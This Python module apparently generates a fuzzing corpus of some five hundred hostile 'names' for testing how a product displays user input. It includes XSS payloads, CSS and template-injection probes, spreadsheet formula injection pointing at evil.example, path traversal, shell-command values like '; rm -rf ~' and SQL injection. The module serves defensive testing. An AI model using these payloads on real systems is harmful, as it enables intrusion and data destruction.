"""Five hundred names that attack whatever shows them: scripts, styles, templates, formulas, paths, odd characters."""

from __future__ import annotations

from itertools import product

MARK = "pwned"
"""The function of a page's window that every script among them calls."""
LONGEST_NAME = 80

_CALL = f"{MARK}()"
# What breaks out of where a careless page puts a name.
_EXITS = ("", '">', "'>", "-->", "]]>", "</script>", "</title>", "</textarea>", "</style>", "</svg>", "</td></table>")
_EXITS += ("`>", "</a>", "<!--", "</noscript>", "</g>")
_SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'>",
    f"<video><source onerror={_CALL}></video>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<math><mtext><img src onerror={_CALL}>",
    f"<svg><animate onbegin={_CALL} attributeName=x>",
    f"<ScRiPt/x>{_CALL}</sCrIpT >",
    f"<body onpageshow={_CALL}>",
    f"<object data=javascript:{_CALL}>",
    f"<form><button formaction=javascript:{_CALL}>",
    f"<base href=//evil.example/><link rel=stylesheet href=//evil.example/{MARK}.css>",
    f"<meta http-equiv=refresh content='0;url=//evil.example/{MARK}'>",
)
_STYLES = (
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "</style><style>body{background:url(//evil.example)}",
    "red;background:url(//evil.example/x)",
    "}*{visibility:hidden}/*",
    "expression(alert(1))",
    "\\3c img src=x onerror=pwned()\\3e",
    '" style="position:fixed;inset:0',
)
_ATTRIBUTES = tuple(
    f"{quote} {event}={quote}{_CALL}"
    for quote, event in product(("'", '"', "`", ""), ("onmouseover", "onfocus", "onclick", "onload", "style=x onerror"))
)
_EXPRESSIONS = tuple(
    f"{opening}{inside}{closing}"
    for (opening, closing), inside in product(
        (("'+", "+'"), ('"+', '+"'), ("'];", ";['"), ("${", "}"), ("datum['", "']"), ("\\'+", "//"), ("));", "//")),
        (_CALL, f"constructor.constructor('{_CALL}')()", f"event.view.{_CALL}", f"warn('{MARK}')"),
    )
)
_TEMPLATES = tuple(
    f"{opening}{inside}{closing}"
    for (opening, closing), inside in product(
        (("{{", "}}"), ("{%", "%}"), ("<%=", "%>"), ("${", "}"), ("#{", "}"), ("{", "}"), ("{{{", "}}}"), ("%(", ")s")),
        ("7*7", "config", "self.__init__.__globals__", "''.__class__.__mro__", "0.__class__", "name!r:>99"),
    )
)
_FORMULAS = tuple(
    f"{sign}{formula}"
    for sign, formula in product(
        ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "x;=", "x,=", "x\t="),
        ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//evil.example")', "IMPORTXML(A1)", "SUM(A1:A9)"),
    )
)
_PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/zero", "C:\\CON", "NUL", "aux.txt", "~root", "$HOME",
    "file:///etc/passwd", "\\\\evil.example\\share", ".", "..", "a/b", "a\\b", "-rf *", "; rm -rf ~", "`id`", "$(id)",
    "| cat /etc/passwd", "&& id", "%2e%2e%2f", "con.html", "study.json", "--force", "x" * 79 + "/",
)  # fmt: skip
_SQL = (
    "'; drop table usage; --", '"; drop table usage; --', "' or 1=1 --", "1; select pg_sleep(9)",
    "') union select 1 --", "read_csv('/etc/passwd')", "%' like '%", 'usage"', "account_id", "month", "quantity",
    "select", "null", "NULL", "None", "nan", "NaN", "inf", "-inf", "true", "FALSE", "undefined", "[object Object]", "0",
    "-0", "1e999", "0x1F",
)  # fmt: skip
_MEMBERS = (
    "constructor", "toString", "valueOf", "__proto__", "hasOwnProperty", "prototype", "length", "name", "isPrototypeOf",
    "__class__", "__dict__", "self", "items", "keys", "values", "index", "columns", "datum", "event", "signal",
)  # fmt: skip
_CHARACTERS = {
    "right to left": "\u202egnirts desrever\u202c",
    "isolates": "a\u2066b\u2069\u2067c",
    "zero width": "zero\u200bwidth\u200d\ufeffjoined",
    "only combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033dA\u0334\u0315\u031d\u0347",
    "line separator": "line\u2028separator",
    "paragraph separator": "paragraph\u2029separator",
    "no-break": "no\u00a0break",
    "soft hyphen": "soft\u00adhyphen",
    "control": "bell\x07escape\x1b[31mred",
    "delete": "del\x7fete",
    "next line": "next\x85line",
    "astral": "\U0001f469\u200d\U0001f52c\U0001f3f3\ufe0f\u200d\U0001f308",
    "private": "\ue000\uf8ff",
    "noncharacter": "a\ufffeb\uffffc",
    "replacement": "\ufffd\ufffd",
    "turkish": "\u0130I\u0131i",
    "sharp s": "STRASSE stra\u00dfe",
    "composed": "e\u0301 \u00e9",
    "ligature": "\ufb01\ufb02",
    "fullwidth": "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "arabic": "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
    "new line": "two\nlines",
    "tab": "tab\tbed",
    "return": "carriage\rreturn",
    "backslashes": "\\\\n\\u003cscript\\x3e",
    "entities": "&lt;script&gt;&#60;&amp;amp;&NotEntity;",
    "quotes": "'\"`\u201c\u2019\u00ab\u201e",
    "braces": "{}[]()<>|&;#!?*",
    "markdown": "**bold** _it_ [x](javascript:pwned()) `code` | a | b |",
    "latex": "$\\href{javascript:pwned()}{x}$",
    "rtl script": f"\u202e<script>{_CALL}</script>",
    "nul in a tag": f"<scr\x00ipt>{_CALL}</scr\x00ipt>",
    "nul": "nul\x00byte",
}


def attack_strings() -> tuple[str, ...]:
    """Return them all, each once, none longer than the longest name the product allows but the few at the end."""
    scripts = [f"{exit_}{script}" for script, exit_ in product(_SCRIPTS, _EXITS)]
    spread = [*scripts, *_ATTRIBUTES, *_EXPRESSIONS, *_TEMPLATES, *_FORMULAS, *_STYLES, *_PATHS, *_SQL, *_MEMBERS]
    found = dict.fromkeys([*_CHARACTERS.values(), *spread])
    return tuple(text for text in found if len(text) <= LONGEST_NAME)


# One of each kind, for the quick check.
A_DOZEN = (
    f"</script><script>{_CALL}</script>",
    f'"><img src=x onerror={_CALL}>',
    f"<svg onload={_CALL}>",
    f"' onmouseover='{_CALL}",
    f"'+{_CALL}+'",
    "{{7*7}}",
    '=HYPERLINK("//evil.example")',
    "../../etc/passwd",
    "'; drop table usage; --",
    f"\\3c img src=x onerror={_CALL}\\3e",
    "constructor",
    "__proto__",
    "\u202egnirts desrever\u202c",
    f"]]><!--<a href=javascript:{_CALL}>&lt;",
)
